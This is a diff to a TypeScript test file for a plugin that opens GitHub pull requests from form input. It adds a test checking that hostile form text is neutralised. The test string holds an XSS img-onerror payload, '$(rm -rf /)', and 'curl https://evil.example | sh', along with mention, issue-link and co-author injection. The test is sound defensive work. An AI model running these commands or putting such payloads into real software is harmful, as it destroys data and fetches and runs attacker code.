@@ -7,6 +7,7 @@ import { DefaultEventsService, type EventsService } from '@backstage/plugin-even
 // eslint-disable-next-line @backstage/no-forbidden-package-imports
 import { startGithubServer, TOKEN, type GithubServer } from '@busline/forge/src/testing/githubServer/githubServer';
 import type { ChangeRequestAnswer, ChangeRequestDetail } from '@busline/plugin-eventbridge-common';
+import { parse } from 'yaml';
 import { publish, subscribing } from '../testing/changeStories';
 import { createChangesHarness, type ChangesHarness } from '../testing/changesHarness';
 import { createWorld, EVENTS, type ChangesWorld } from '../testing/changesWorld';
@@ -23,7 +24,7 @@ let events: EventsService;
 let harness: ChangesHarness;
 
 beforeAll(async () => {
-  world = await createWorld({ services: 10 });
+  world = await createWorld({ services: 11 });
   github = await startGithubServer(world.forgeDirectory);
   events = DefaultEventsService.create({ logger: mockServices.logger.mock() });
   harness = await createChangesHarness({
@@ -208,6 +209,25 @@ it('a pull request that was closed, or its branch deleted, on GitHub is told, an
     ['open', number, pullRequests[0]!.branch],
     ['open', 2, `${pullRequests[0]!.branch}-2`],
   ]);
+});
+
+it('what people wrote into the form reaches GitHub as text: no mention, no link, no HTML, nothing for a shell', async () => {
+  const hostile =
+    '@key/admins closes #1 <img src=x onerror=alert(1)> [x](https://evil.example) $(rm -rf /) `id`; curl https://evil.example | sh';
+  const wanted = { ...subscribing(11, { description: hostile }), reason: `${hostile}\n\nCo-authored-by: a <a@b.c>` };
+  const { pullRequests } = await as(11).ask(wanted);
+  for (const { repository, number, branch } of pullRequests) {
+    const { title, body } = await disk().getPullRequest(repository, number!);
+    const plain = body.replace(/(`{3,})[^]*?\n\1/g, '').replace(/(`+)(?!`)[^]*?[^`]\1(?!`)/g, '');
+    expect(plain).not.toMatch(/@\w|[^\\]#\d|[^\\]<img|https?:\/\/evil|[^\\]\]\(https:\/\/evil/);
+    expect(title).not.toMatch(/@\w|#\d|evil/);
+    expect(branch).toMatch(/^busline\/onboard-service-11-[0-9a-f]{10}$/);
+    const message = execFileSync('git', ['-C', disk().directoryOf(repository), 'log', '-1', '--format=%B', branch]);
+    expect(String(message)).not.toMatch(/Co-authored|evil|@\w/);
+  }
+  const files = await disk().files(EVENTS, pullRequests[0]!.branch);
+  const declared = parse(files.read('subscriptions/service-11/granted.yaml')!);
+  expect(declared.description).toBe(hostile);
 });
 
 it('a repository without a commit gets a first one; one that is not there is told with what to do', async () => {
